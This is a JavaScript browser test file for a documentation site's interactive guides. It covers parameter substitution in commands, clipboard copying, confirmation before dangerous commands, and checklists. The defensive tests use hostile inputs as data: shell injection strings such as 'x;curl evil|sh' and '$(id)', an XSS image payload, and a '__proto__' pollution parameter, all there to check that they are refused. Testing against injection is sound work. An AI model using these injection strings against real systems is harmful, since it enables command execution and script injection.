// Guides as they are followed: values in commands, dangerous commands, terminals, long lines, checklists.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";

const CLIPBOARD = { permissions: ["clipboard-read", "clipboard-write"] };
const clipboard = (page) => page.evaluate(() => navigator.clipboard.readText());
const param = (page, name) => page.locator(`.params input[name="${name}"]`);
const texts = (locator) => locator.evaluateAll((elements) => elements.map((element) => element.textContent));

/** The first parameter of a page whose name stands in a code block, with its default. */
async function first(page) {
  const { name, value } = await page.evaluate(() => {
    const spot = document.querySelector("figure.code:not(.danger) [data-param]");
    return { name: spot.dataset.param, value: document.querySelector(`.params input[name="${spot.dataset.param}"]`).defaultValue };
  });
  return { name, value, spots: page.locator(`[data-param="${name}"]`) };
}

/** Clicks the copy button of a block in which a parameter stands. */
async function copyBlock(page, name) {
  const figure = page.locator(`figure.code:not(.danger):has([data-param="${name}"]):visible`).first();
  await figure.hover();
  await figure.locator(".copy").click();
  return figure;
}

export default function (test) {
  test("values fill every command and are what is copied", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params, { context: CLIPBOARD });
    const { name, value, spots } = await first(page);
    assert.ok(value);
    assert.deepEqual([...new Set(await texts(spots))], [value]);
    await param(page, name).fill("eu-west/3.x:1@a_b");
    assert.deepEqual([...new Set(await texts(spots))], ["eu-west/3.x:1@a_b"]);
    const figure = await copyBlock(page, name);
    await figure.locator(".copy", { hasText: "Copied" }).waitFor();
    const copied = await clipboard(page);
    assert.ok(copied.includes("eu-west/3.x:1@a_b") && !copied.includes(`$${name}`), copied);
    // Without a value, what the author wrote.
    await param(page, name).fill("");
    assert.deepEqual([...new Set(await texts(spots))].filter((text) => !text.includes(name)), []);
    assert.deepEqual(page.problems, []);
  });

  test("values fill inline code too", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const found = [];
    const page = await visit.open(visit.pages.params);
    for (const inline of await page.locator(":not(pre) > code [data-param]").all()) found.push(await inline.getAttribute("data-param"));
    if (found.length === 0) return "the guide has no parameter in inline code";
    await param(page, found[0]).fill("elsewhere");
    assert.equal(await page.locator(`:not(pre) > code [data-param="${found[0]}"]`).first().textContent(), "elsewhere");
  });

  test("values are kept, shared by guides that start from the same, and can be given back", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params);
    const { name, value, spots } = await first(page);
    await param(page, name).fill("kept-1");
    await page.reload();
    assert.equal(await param(page, name).inputValue(), "kept-1");
    assert.equal(await spots.first().textContent(), "kept-1");
    const [same, another] = [true, false].map((same) =>
      fs.readdirSync(visit.folder, { recursive: true }).find((file) => {
        if (!file.endsWith(".html") || file === visit.pages.params) return false;
        const standard = new RegExp(`name="${name}" value="([^"]*)"`).exec(fs.readFileSync(path.join(visit.folder, file), "utf8"))?.[1];
        return standard !== undefined && (standard === value) === same;
      }),
    );
    const here = page.url();
    for (const [file, shared] of [[same, true], [another, false]]) {
      if (!file) continue;
      await page.goto(new URL(`/${file}`, here).href);
      assert.equal((await param(page, name).inputValue()) === "kept-1", shared, file);
    }
    await page.goto(here);
    await page.locator(".params-reset").click();
    assert.equal(await spots.first().textContent(), value);
    assert.equal(await page.locator(".params-reset").isDisabled(), true);
    await page.reload();
    assert.equal(await param(page, name).inputValue(), value);
    assert.equal(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes(":param:")).length), 0);
  });

  test("what isn't fit for a command never gets into one", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params);
    const { name, spots } = await first(page);
    for (const value of ["x;id", "$(id)", "`id`", "a b", "a\\b", "'", "--all", "a|b", "x>y", "é", "x&y"]) {
      await param(page, name).fill(value);
      assert.equal(await param(page, name).getAttribute("aria-invalid"), "true", value);
      assert.match(await page.locator(".params-status").textContent(), /letters, digits/);
      assert.deepEqual((await texts(spots)).filter((text) => text.includes(value)), [], value);
    }
    await param(page, name).fill("fine");
    assert.equal(await param(page, name).getAttribute("aria-invalid"), null);
    assert.equal(await page.locator(".params-status").textContent(), "");
  });

  test("a value that came by a link is marked, and nothing is copied before somebody has looked", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const plain = await visit.open(visit.pages.params);
    const { name, value } = await first(plain);
    const page = await visit.open(visit.pages.params, { context: CLIPBOARD });
    await page.goto(`${page.url()}?x=1&p.${name}=prod#here`);
    const spots = page.locator(`[data-param="${name}"]`);
    assert.equal(await spots.first().textContent(), "prod");
    assert.equal(await spots.first().evaluate((spot) => spot.classList.contains("is-foreign")), true);
    assert.ok((await page.locator(".params-pending").textContent()).includes("prod"));
    await page.evaluate(() => navigator.clipboard.writeText("before"));
    for (const figure of (await page.locator("figure.code:visible").all()).slice(0, 3)) {
      await figure.hover();
      await figure.locator(".copy").click();
      assert.equal(await page.evaluate(() => document.activeElement.className), "params-use");
    }
    assert.match(await page.locator(".params-why").textContent(), /first/);
    // By hand neither: the whole page is selected.
    await page.keyboard.press("Control+A");
    await page.keyboard.press("Control+C");
    assert.equal(await clipboard(page), "before");
    assert.equal(await page.evaluate(() => Object.keys(localStorage).some((key) => key.includes(":param:"))), false, "nothing is kept");

    await page.locator(".params-use").click();
    assert.equal(await page.locator(".params-pending").isVisible(), false);
    assert.ok(await page.evaluate(() => document.activeElement !== document.body), "the focus is somewhere");
    assert.equal(new URL(page.url()).search, "?x=1");
    await copyBlock(page, name);
    await page.waitForFunction(async () => (await navigator.clipboard.readText()) !== "before");
    assert.ok((await clipboard(page)).includes("prod"));
    await page.reload();
    assert.equal(await param(page, name).inputValue(), "prod");

    const own = await visit.open(visit.pages.params);
    await own.goto(`${own.url()}?p.${name}=other`);
    await own.locator(".params-refuse").click();
    assert.equal(await own.locator(`[data-param="${name}"]`).first().textContent(), value);
    assert.equal(new URL(own.url()).search, "");
    assert.deepEqual([...page.problems, ...own.problems], []);
  });

  test("a crafted link puts nothing into a command and says so", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const { name, value } = await first(await visit.open(visit.pages.params));
    for (const crafted of ["x;curl evil|sh", "$(id)", "<img src=x onerror=alert(1)>", "--all-namespaces", "a\nb", "x".repeat(300), ""]) {
      const page = await visit.open(visit.pages.params);
      await page.goto(`${page.url()}?p.${name}=${encodeURIComponent(crafted)}&p.__proto__=x`);
      assert.deepEqual([...new Set(await texts(page.locator(`[data-param="${name}"]`)))], [value], crafted);
      assert.match(await page.locator(".params-status").textContent(), new RegExp(`${name}: the link's value was refused`));
      assert.equal(await page.locator(".params-pending").isVisible(), false);
      assert.deepEqual(page.problems, []);
    }
  });

  test("a link with values brings them to somebody else", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params, { context: CLIPBOARD });
    const { name } = await first(page);
    await param(page, name).fill("eu/1:2@x");
    await page.locator(".params-link").click();
    await page.locator(".params-link", { hasText: "Copied" }).waitFor();
    const url = new URL(await clipboard(page));
    assert.equal(url.searchParams.get(`p.${name}`), "eu/1:2@x");
    const other = await visit.open(visit.pages.params);
    await other.goto(url.href);
    await other.locator(".params-use").click();
    assert.equal(await other.locator(`[data-param="${name}"]`).first().textContent(), "eu/1:2@x");
  });

  test("without script, commands stand as written and the values are named", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params, { context: { javaScriptEnabled: false } });
    const name = await page.locator("figure.code [data-param]").first().getAttribute("data-param");
    assert.ok((await page.locator(`figure.code [data-param="${name}"]`).first().textContent()).includes(name));
    assert.equal(await page.locator(".params-form").isVisible(), false);
    assert.ok((await page.locator(".params-plain").innerText()).includes(`${name}=`));
    assert.equal(await page.locator(".task input:enabled").count(), 0);
  });

  test("a dangerous command is warned of and takes a second click", async (visit) => {
    if (!visit.pages.danger) return "the site has no dangerous command";
    for (const javaScriptEnabled of [false, true]) {
      const page = await visit.open(visit.pages.danger, { context: { ...CLIPBOARD, javaScriptEnabled } });
      const figure = page.locator("figure.danger").first();
      assert.match(await figure.locator(".danger-note").innerText(), /^Can lose data/);
      if (!javaScriptEnabled) continue;
      await page.evaluate(() => navigator.clipboard.writeText("before"));
      const copy = figure.locator(".copy");
      await copy.focus();
      await page.keyboard.press("Enter");
      await copy.filter({ hasText: "Click again to copy" }).waitFor();
      assert.equal(await clipboard(page), "before");
      assert.match(await page.locator("body > [role=status]").textContent(), /Click again/);
      // It doesn't stay armed; and a double click is one decision.
      await copy.filter({ hasNotText: "Click again" }).waitFor({ timeout: 15_000 });
      await copy.evaluate((copy) => {
        copy.click();
        copy.click();
      });
      await copy.filter({ hasText: "Click again to copy" }).waitFor();
      assert.equal(await clipboard(page), "before");
      await page.waitForTimeout(400);
      await page.keyboard.press("Enter");
      await copy.filter({ hasText: "Copied" }).waitFor();
      assert.notEqual(await clipboard(page), "before");
      assert.ok(await copy.evaluate((copy) => copy === document.activeElement), "the focus stays");
      assert.deepEqual(page.problems, []);
    }
  });

  test("of a terminal, only what was typed is copied", async (visit) => {
    if (!visit.pages.session) return "the site has no terminal with output";
    const page = await visit.open(visit.pages.session, { context: CLIPBOARD });
    const figure = page.locator("figure.session:has(.output):visible").first();
    await figure.hover();
    await figure.locator(".copy").click();
    await figure.locator(".copy", { hasText: "Copied" }).waitFor();
    const copied = await clipboard(page);
    const typed = await figure.locator(".line:not(.output)").evaluateAll((lines) => lines.map((line) => line.textContent.replace(/^\s*[$#%] /, "")));
    assert.equal(copied, typed.join("").replace(/\n$/, ""));
    assert.ok(copied.length > 0 && !/^\s*\$ /m.test(copied), copied);
    for (const output of await texts(figure.locator(".output"))) assert.ok(!output.trim() || !copied.includes(output.trim()), output);
  });

  test("long lines wrap for who wants it, on every page", async (visit) => {
    if (!visit.pages.guide) return "the site has no backup guide";
    const page = await visit.open(visit.pages.guide, { context: { viewport: { width: 390, height: 844 } } });
    const wide = page.locator("figure.code:not(.drawing):has(.wrap:not([hidden]))").first();
    if (!(await wide.count())) return "no line is long";
    await wide.scrollIntoViewIfNeeded();
    await wide.locator(".wrap").click();
    assert.equal(await wide.locator(".wrap").getAttribute("aria-pressed"), "true");
    const overflow = () => wide.locator("pre").evaluate((pre) => pre.scrollWidth - pre.clientWidth);
    assert.ok((await overflow()) <= 1);
    await page.reload();
    assert.ok((await overflow()) <= 1, "and after a reload");
    assert.equal(await wide.locator(".wrap").isVisible(), true);
    await wide.locator(".wrap").click();
    assert.ok((await overflow()) > 1);
    assert.equal(await page.locator("figure.code:not(.drawing):has(.wrap[hidden])").evaluateAll((figures) => figures.filter((figure) => figure.querySelector("pre").scrollWidth > figure.querySelector("pre").clientWidth + 1).length), 0);
  });

  test("ticks are kept, counted, given back and copied", async (visit) => {
    if (!visit.pages.tasks) return "the site has no checklist";
    const page = await visit.open(visit.pages.tasks, { context: CLIPBOARD });
    const boxes = page.locator(".content .task input");
    const all = await boxes.count();
    const before = await page.locator(".content .task input:checked").count();
    const open = page.locator(".content .task input:not(:checked)");
    const bar = page.locator(".tasks-bar:not([hidden])").first();
    const count = (text) => bar.locator(".tasks-count", { hasText: text }).waitFor();
    const whole = Number(await bar.locator("progress").getAttribute("max"));
    if (await page.locator(".tasks-bar:not([hidden])").count() > 1) assert.equal(whole, all);
    const name = await open.first().getAttribute("aria-label");
    assert.ok(name.length > 3 && name !== "Done", name);
    await open.first().check();
    await count(`${before + 1} of ${whole} done`);
    await page.reload();
    assert.equal(await page.getByRole("checkbox", { name, exact: true }).first().isChecked(), true);
    await count(`${before + 1} of ${whole} done`);

    await bar.locator("button", { hasText: "Copy as Markdown" }).click();
    await bar.locator("button", { hasText: "Copied" }).waitFor();
    const copied = await clipboard(page);
    assert.equal(copied.match(/^ *- \[[ x]\] /gm).length, whole);
    assert.equal(copied.match(/^ *- \[x\] /gm).length, before + 1);

    await bar.locator("button", { hasText: "Reset" }).click();
    await count(`${before} of ${whole} done`);
    await bar.locator("button", { hasText: "Undo" }).click();
    await count(`${before + 1} of ${whole} done`);
    await bar.locator("button", { hasText: "Reset" }).click();
    await page.reload();
    await count(`${before} of ${whole} done`);
    assert.equal(await page.evaluate(() => Object.keys(localStorage).some((key) => key.includes(":ticks:"))), false);
    assert.deepEqual(page.problems, []);
  });

  test("a page of which storage is closed works all the same", async (visit) => {
    if (!visit.pages.params) return "the site has no guide with parameters";
    const page = await visit.open(visit.pages.params, {
      prepare: () => Object.defineProperty(window, "localStorage", { get() { throw new DOMException("closed", "SecurityError"); } }),
    });
    const { name, spots } = await first(page);
    await param(page, name).fill("here");
    assert.equal(await spots.first().textContent(), "here");
    const box = page.locator(".content .task input:not(:checked)").first();
    await box.check();
    assert.equal(await page.locator(".tasks-bar .tasks-count", { hasText: /^[1-9]/ }).count() > 0, true);
    assert.deepEqual(page.problems, []);
  });

  test("a chart's page leads to how it is restored, or says that nobody wrote it down", async (visit) => {
    const page = await visit.open(visit.pages.chart);
    const link = page.locator(".restore-line a");
    if (!(await link.count())) {
      assert.match(await page.locator(".restore-line").innerText(), /No restore procedure is written/);
      return undefined;
    }
    assert.ok((await link.boundingBox()).y < 900, "seen without scrolling");
    await link.click();
    const id = decodeURIComponent(new URL(page.url()).hash.slice(1));
    const heading = id ? page.locator(`[id="${id}"]`) : page.locator("h1");
    assert.match(await heading.first().textContent(), /recover|restor|복구|복원/i);
    return undefined;
  });
}
